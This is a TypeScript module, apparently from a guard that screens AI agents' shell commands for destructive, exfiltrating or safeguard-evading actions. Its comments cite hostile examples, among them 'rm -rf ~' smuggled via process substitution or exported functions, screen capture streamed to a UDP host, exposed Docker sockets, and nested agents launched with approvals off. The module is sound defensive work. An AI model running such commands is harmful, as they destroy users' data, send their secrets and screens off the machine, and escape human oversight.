import { unguardedAgentRun } from './agent-client-flags.ts';
import { argvOf, type BashContext, checkLists, fedScript, isExempt, listed, runsFedText } from './bash-rules.ts';
import { checkStreamedCapture } from './captured-streams.ts';
import { walkChildScripts } from './child-shell-folders.ts';
import { type Invocation, SHELLS, unwrap } from './command.ts';
import { checkCommandPaths } from './command-paths.ts';
import { checkDataChange } from './data-changes.ts';
import { envFileRun } from './env-files.ts';
import { staticOutput } from './expand.ts';
import { exportedFunctionBodies } from './exported-functions.ts';
import { checkExposedServer } from './exposed-servers.ts';
import type { Hit } from './families/args.ts';
import { checkGitHistory } from './families/git-history.ts';
import { stdinRefCalls } from './families/git-ref-rewrites.ts';
import { checkHistoryRewriter } from './families/history-rewriters.ts';
import { checkFamilies, familyFinding } from './families/index.ts';
import { interpreterScripts } from './families/interpreter.ts';
import { checkJjBookmarks } from './families/jj-bookmarks.ts';
import type { FamilyContext } from './families/types.ts';
import { checkForgeBranchDelete } from './forge-branch-deletes.ts';
import { checkGit, type Finding, parseGit } from './git-rules.ts';
import { assignedCommands, assignedFindings, settingCommands } from './git-settings.ts';
import { checkGithubApi } from './github-api-rules.ts';
import { checkHistoryChange } from './history-files.ts';
import { informational } from './informational.ts';
import { leadingFolder } from './known-folders.ts';
import { stdinTclLines } from './launcher-shapes.ts';
import { madeLink } from './made-links.ts';
import { registeredServerCommands } from './mcp-server-commands.ts';
import { checkOpenedSecret } from './opened-secrets.ts';
import { resolvePath } from './paths.ts';
import { checkMovedAway, checkRemoval } from './removal.ts';
import { actorEnv, axmeCommand, gitBypasses, gitConfigEnv } from './self-rules.ts';
import { checkServedFolder } from './served-folders.ts';
import { isDynamic, type SimpleCommand, UNKNOWN } from './shell.ts';
import { checkTransportSettings } from './transport-settings.ts';
import type { Walk } from './walk-state.ts';

/**
 * Checks one command. `fed` is the text a static earlier stage of its pipeline writes into its
 * stdin: the rule families read it like a here-string (SQL for a database shell, code for an
 * interpreter). What the command runs in turn (a `find -exec`, a heredoc fed to a shell, a
 * one-liner's code) is walked through `w.walkScript`.
 */
export function checkCommand(cmd: SimpleCommand, inv: Invocation | null, w: Walk, depth: number, fed: string | null = null): void {
  const stdinCmd: SimpleCommand = fed === null ? cmd : { ...cmd, redirects: [...cmd.redirects, { op: '<<<', target: null, input: fed }] };
  const stdinInv: Invocation | null = fed === null || !inv ? inv : { ...inv, command: stdinCmd };
  const cwd = inv?.chdir && !inv.chdir.includes('\uE000') && w.cwd ? resolvePath(inv.chdir, { cwd: w.cwd, home: w.ctx.home }) : w.cwd;
  const bctx: BashContext = {
    policy: w.policy,
    cwd,
    home: w.ctx.home,
    root: w.ctx.root,
    seen: w.seen,
    budget: w.budget,
    realpath: w.ctx.realpath,
    protectedPaths: w.ctx.protectedPaths,
    commonDir: w.ctx.commonDir,
    links: w.links,
  };
  const add = (f: Finding | null) => void (f && w.findings.push(f));
  const fctx: FamilyContext = { policy: w.policy, cwd, home: w.ctx.home, root: w.ctx.root };
  if (cmd.after !== '&&') w.chained = false;
  if (inv) add(checkRemoval(inv, bctx));
  add(checkHistoryChange(inv, cmd.redirects, bctx));
  add(checkDataChange(inv, cmd.redirects, bctx));
  add(checkCommandPaths(inv, cmd.redirects, bctx));
  if (inv) add(checkMovedAway(inv, bctx));
  const link = inv && madeLink(inv, cwd, w.ctx.home);
  if (link) w.links.set(link.name, link.target);
  // `bash <<EOF ... EOF`, `sh <<< "..."`, `at now <<< "..."`: the shell runs what it reads
  // (a shell it starts, whose `cd` moves no later command: child-shell-folders.ts)
  const child = (scripts: readonly string[]) => walkChildScripts(cmd, scripts, w, (s) => w.walkScript(s, w, depth + 1));
  if (inv && runsFedText(inv)) child(cmd.redirects.flatMap((r) => (r.input ? [fedScript(inv, r.input)] : [])));
  // `expect <<< 'spawn …'`, `echo 'exec …' | tclsh`: the commands a Tcl script read on stdin starts
  if (inv) for (const s of stdinTclLines(inv.program, inv.args, stdinCmd.redirects.find((r) => r.input !== null)?.input ?? null)) w.walkScript(s, w, depth + 1);
  // `bash <(echo 'rm -rf ~')`, `source <(printf …)`: the shell runs the file a static substitution writes
  if (inv && (SHELLS.has(inv.program) || inv.program === 'source' || inv.program === '.')) {
    const file = inv.args.find((a) => !a.value.startsWith('-') || a.raw.startsWith('<('));
    const text = file?.raw.startsWith('<(') && file.subs.length === 1 ? staticOutput(file.subs[0]!) : null;
    if (text) child([text]);
  }
  // `GIT_PAGER='…' git log`, `export LESSOPEN='|… %s'`, `EDITOR='…'`: what git, less or ssh would run is checked where it is set
  for (const s of assignedCommands(cmd, inv)) w.walkScript(s, w, depth + 1);
  // `env 'BASH_FUNC_ls%%=() { rm -rf ~; }' bash -c ls`: a function a child bash is handed through its environment (exported-functions.ts)
  for (const s of exportedFunctionBodies(cmd)) w.walkScript(s, w, depth + 1);
  // `claude mcp add x -s user -- sh -c '…'`: the command the client runs at each session's start (mcp-server-commands.ts)
  if (inv) child(registeredServerCommands(inv));
  for (const f of assignedFindings(cmd, inv)) add(f);
  if (!inv) {
    // a redirection alone (`> ~/.bashrc`) still writes
    for (const f of checkFamilies(cmd, null, fctx)) add(f);
    return;
  }
  if (inv.program === 'cd' || inv.program === 'pushd') {
    const target = inv.args.find((a) => !a.value.startsWith('-') || a.value === '-');
    // a cd can fail (`cd /missing; rm -rf *` runs in the old folder): remember where we were
    w.fallback = w.cwd;
    w.chained = true;
    // `cd "$(git rev-parse --show-toplevel)"`, `cd "$PWD/sub"`: a folder the context knows (known-folders.ts)
    const lead = target && isDynamic(target) && !target.value.slice(1).includes(UNKNOWN) ? leadingFolder(target, bctx) : null;
    const next = !target
      ? w.ctx.home
      : lead !== null
        ? resolvePath(lead + target.value.slice(1), { cwd: lead, home: w.ctx.home })
        : target.value === '-' || isDynamic(target) || w.cwd === null
          ? null
          : resolvePath(target.value, { cwd: w.cwd, home: w.ctx.home });
    // a path growing with every `cd a` would make each later check slower: past 4 KB it is unknown
    w.cwd = next && next.length > 4096 ? null : next;
    return;
  }
  if (inv.program === 'popd') {
    w.cwd = null;
    return;
  }
  // interpreter one-liners: what their code would run is checked as commands (families/interpreter.ts)
  if (w.policy.families.interpreter !== 'off') {
    const scripts = interpreterScripts(stdinInv!);
    if (scripts.length) {
      const inner: Walk = { ...w, findings: [], gates: [] };
      for (const s of scripts) w.walkScript(s, inner, depth + 1);
      // what a one-liner would run takes the interpreter family's action (deny by default), also
      // where typed it would only be asked: hidden in code, it is for a person to run themselves
      for (const f of inner.findings)
        w.findings.push(
          familyFinding(
            'interpreter',
            { rule: f.rule, reason: `\`${inv.program}\` would run code that ${f.reason.charAt(0).toLowerCase()}${f.reason.slice(1)}` },
            w.policy,
          ),
        );
      // a `#!axme pr=N` marker inside the code is looked up like one typed
      w.gates.push(...inner.gates);
    }
  }
  if (w.fallback !== null && !w.chained && w.fallback !== cwd) {
    add(checkRemoval(inv, { ...bctx, cwd: w.fallback }));
    add(checkMovedAway(inv, { ...bctx, cwd: w.fallback }));
  }
  add(axmeCommand(inv));
  // `claude --dangerously-skip-permissions -p …`, `gemini --yolo`: a nested agent with the user's approvals off (agent-client-flags.ts)
  add(unguardedAgentRun(inv));
  // `npm config set registry http://…`, `export NODE_TLS_REJECT_UNAUTHORIZED=0`: a setting that sends credentials or code elsewhere (transport-settings.ts)
  add(checkTransportSettings(cmd, inv));
  // `python3 -m http.server -d ~`, `cd ~ && npx serve`: the home folder served to whoever reaches the port (served-folders.ts)
  add(checkServedFolder(inv, cwd, w.ctx.home));
  // `ttyd -W bash`, `dockerd -H tcp://0.0.0.0:2375`: this machine handed to whoever reaches the port (exposed-servers.ts)
  add(checkExposedServer(inv));
  // `ffmpeg -f x11grab -i :0 -f mpegts udp://h:1234`: the screen, the microphone or the camera streamed off the machine (captured-streams.ts)
  add(checkStreamedCapture(inv));
  // `chmod 644 ~/.ssh/id_ed25519`, `setfacl -R -m u:nobody:rwx ~`: a secret opened to other users (opened-secrets.ts)
  add(checkOpenedSecret(inv, bctx));
  add(gitConfigEnv(cmd, inv));
  add(actorEnv(cmd, inv));
  // find -exec cmd ... ; runs cmd for each file
  if (inv.program === 'find') {
    inv.args.forEach((a, i) => {
      if (a.value === '-exec' || a.value === '-execdir' || a.value === '-ok' || a.value === '-okdir') {
        const end = inv.args.findIndex((x, k) => k > i && (x.value === ';' || x.value === '+'));
        const words = inv.args.slice(i + 1, end < 0 ? undefined : end);
        if (!words.length) return;
        const inner = { ...cmd, words, redirects: [] };
        const u = unwrap(inner);
        for (const s of u.scripts) w.walkScript(s, w, depth + 1);
        checkCommand(inner, u.invocation, w, depth);
      }
    });
  }
  // `dotenv -e .env -- cmd`, `env-cmd cmd`, `op run -- cmd`: the command started with a file's values is judged as any command (env-files.ts)
  for (const words of envFileRun(inv)?.commands ?? []) {
    const inner = { ...cmd, words, redirects: [] };
    const u = unwrap(inner);
    for (const s of u.scripts) w.walkScript(s, w, depth + 1);
    checkCommand(inner, u.invocation, w, depth);
  }
  const argv = argvOf(inv);
  let exemptArgv = argv;
  if (inv.program === 'git') {
    const call = parseGit(inv, cwd ?? w.ctx.cwd, w.ctx.home);
    if (call?.aliasScript) w.walkScript(call.aliasScript, w, depth + 1);
    // `git config core.sshCommand '…'`, `git -c core.pager='…' log`, `git clone 'ext::…'`: what git would run is checked as commands
    for (const s of call ? settingCommands({ ...call, config: call.given }) : []) w.walkScript(s, w, depth + 1);
    // `git push --help`, `git push -h`: git shows the manual and does nothing else
    if (call && !informational('git', call.args)) {
      exemptArgv = ['git', call.sub, ...call.args];
      const stdin = stdinCmd.redirects.findLast((r) => r.input !== null)?.input ?? null;
      for (const f of gitBypasses(call, stdin)) add(f);
      const exempt = isExempt(exemptArgv, w.policy);
      const gctx = {
        policy: w.policy,
        home: w.ctx.home,
        branchOf: w.ctx.branchOf,
        remoteUrl: w.ctx.remoteUrl,
        gitSetting: w.ctx.gitSetting,
        pathKind: w.ctx.pathKind,
        listed: (e: string) => !exempt && listed(w.policy, e),
        exempt,
      };
      for (const f of checkGit(call, cmd.comment ?? w.marker, gctx, w.gates)) add(f);
      if (!exempt && w.policy.families.gitHistory !== 'off') {
        // `git update-ref --stdin <<< 'delete refs/heads/main'`: each command it reads, as if written (git-ref-rewrites.ts)
        const hit = checkGitHistory(call, fctx) ?? stdinRefCalls(call, stdin).reduce<Hit | null>((h, c) => h ?? checkGitHistory(c, fctx), null);
        if (hit) add(familyFinding('gitHistory', hit, w.policy));
      }
    }
  }
  // `bfg …`, `java -jar bfg-1.14.0.jar …`, `git-filter-repo …`: a history rewriter run as a program of its own (families/history-rewriters.ts)
  // `jj bookmark delete main`, `jj git push -b main`: Jujutsu's moves of a protected branch (families/jj-bookmarks.ts)
  const rewriter =
    w.policy.families.gitHistory !== 'off' && !isExempt(argv, w.policy)
      ? (checkHistoryRewriter(inv) ?? checkJjBookmarks(inv, w.policy.protectedBranches))
      : null;
  if (rewriter) add(familyFinding('gitHistory', rewriter, w.policy));
  // GitHub's API doing what git may not: `gh api -X PUT …/contents/…`, `curl -X PUT https://api.github.com/…` (github-api-rules.ts)
  for (const f of checkGithubApi(stdinInv!, w.policy, () => isExempt(exemptArgv, w.policy))) add(f);
  // `az repos ref delete --name refs/heads/main`, `glab api -X DELETE …/repository/branches/main`: other forges' branch deletes (forge-branch-deletes.ts)
  add(checkForgeBranchDelete(inv, w.policy));
  // a list entry spelled with a runner (`npx prisma migrate reset`) matches the command through it too (command.ts runners)
  if (!isExempt(exemptArgv, w.policy) && !inv.runners.some((r) => isExempt(r, w.policy))) {
    add(checkLists(exemptArgv, w.policy) ?? inv.runners.map((r) => checkLists(r, w.policy)).find(Boolean) ?? null);
    for (const f of checkFamilies(stdinCmd, stdinInv, fctx)) add(f);
  }
}
